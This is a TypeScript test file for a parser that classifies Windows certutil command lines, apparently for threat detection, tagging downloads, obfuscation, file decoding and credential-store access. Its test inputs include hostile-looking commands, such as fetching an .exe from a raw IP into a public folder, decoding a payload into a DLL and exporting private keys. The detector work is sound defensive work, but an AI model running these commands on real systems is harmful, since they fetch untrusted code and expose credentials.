import { describe, expect, test } from 'vitest'
import { readToolUse } from './read-tool-use'

describe('certutil', () => {
  test.each([
    [
      'certutil  -urlcache -split -f http://10.1.2.3/a.exe C:\\Users\\Public\\a.exe',
      'certutil /urlcache /split /f http://<ip>/*.exe <public>\\a.exe',
      'certutil|urlcache|url|exe',
      ['remote-url', 'address-host', 'download'],
      null,
    ],
    [
      'certutil.exe /URLCACHE /f https://example.com/a.txt a.txt',
      'certutil /urlcache /f https://example.com/*.txt a.txt',
      'certutil|urlcache|url|txt',
      ['remote-url', 'download'],
      null,
    ],
    [
      'certutil —urlcache —f https://example.com/a.txt a.txt',
      'certutil /urlcache /f https://example.com/*.txt a.txt',
      'certutil|urlcache|url|txt',
      ['remote-url', 'download', 'obfuscated'],
      null,
    ],
    [
      'certutil -verifyctl -f -split https://example.com/a.bin',
      'certutil /verifyctl /f /split https://example.com/*.bin',
      'certutil|verifyctl|url|bin',
      ['remote-url', 'download'],
      null,
    ],
    [
      'certutil -decode C:\\Users\\ann\\AppData\\Local\\Temp\\a.b64 C:\\ProgramData\\a.dll',
      'certutil /decode <user-temp>\\*.b64 <program-data-root>\\a.dll',
      'certutil|decode|user-temp|b64',
      ['decodes-file'],
      null,
    ],
    [
      'certutil -encode corp.cer corp.txt',
      'certutil /encode corp.cer corp.txt',
      'certutil|encode|bare|cer',
      [],
      null,
    ],
    [
      'certutil -exportPFX my C:\\Users\\Public\\k.pfx',
      'certutil /exportpfx my <public>\\k.pfx',
      'certutil|exportpfx|public|pfx',
      ['credential-store'],
      null,
    ],
    [
      'certutil -f -p Vault7 -backupKey C:\\Backup\\ca',
      'certutil /f /p <secret> /backupkey <root-folder>\\backup\\ca',
      'certutil|backupkey|root-folder|-',
      ['credential-store'],
      null,
    ],
    [
      'certutil -encode sign.pfx sign.log',
      'certutil /encode sign.pfx sign.log',
      'certutil|encode|bare|pfx',
      ['decodes-file'],
      null,
    ],
    [
      'certutil -encodehex -f in.zip out.gif 4',
      'certutil /encodehex /f in.zip out.gif <n>',
      'certutil|encodehex|bare|zip',
      ['decodes-file'],
      null,
    ],
    [
      'certutil -encode in.exe out.txt',
      'certutil /encode in.exe out.txt',
      'certutil|encode|bare|exe',
      ['decodes-file'],
      null,
    ],
    [
      'certutil -decodehex a.hex a.dll',
      'certutil /decodehex a.hex a.dll',
      'certutil|decodehex|bare|hex',
      ['decodes-file'],
      null,
    ],
    [
      'certutil -addstore -f Root C:\\deploy\\corp.cer',
      'certutil /addstore /f root <root-folder>\\deploy\\corp.cer',
      'certutil|addstore|root-folder|cer',
      ['root-folder'],
      null,
    ],
    [
      'certutil -hashfile C:\\Windows\\System32\\notepad.exe SHA256',
      'certutil /hashfile <system>\\notepad.exe sha256',
      'certutil|hashfile|system|exe',
      [],
      null,
    ],
    [
      'certutil -f -p Secret -importPFX C:\\deploy\\k.pfx',
      'certutil /f /p <secret> /importpfx <root-folder>\\deploy\\k.pfx',
      'certutil|importpfx|root-folder|pfx',
      ['root-folder'],
      null,
    ],
    ['certutil -store My', 'certutil /store my', 'certutil|store|-|-', [], null],
    ['certutil c:\\a.cer', 'certutil <drive-root>\\a.cer', 'certutil|dump|drive-root|cer', [], null],
    ['certutil', 'certutil', 'certutil|dump|-|-', [], null],
    [
      'certutil -ping http://example.com/a',
      'certutil /ping http://example.com/*',
      'certutil|ping|url|-',
      ['remote-url', 'download'],
      null,
    ],
  ])('%s', (line, pattern, shape, facts, hosted) => {
    expect(readToolUse('certutil.exe', line, 'C:\\Windows\\System32\\certutil.exe')).toMatchObject({
      pattern,
      shape,
      facts,
      hosted,
    })
  })
})
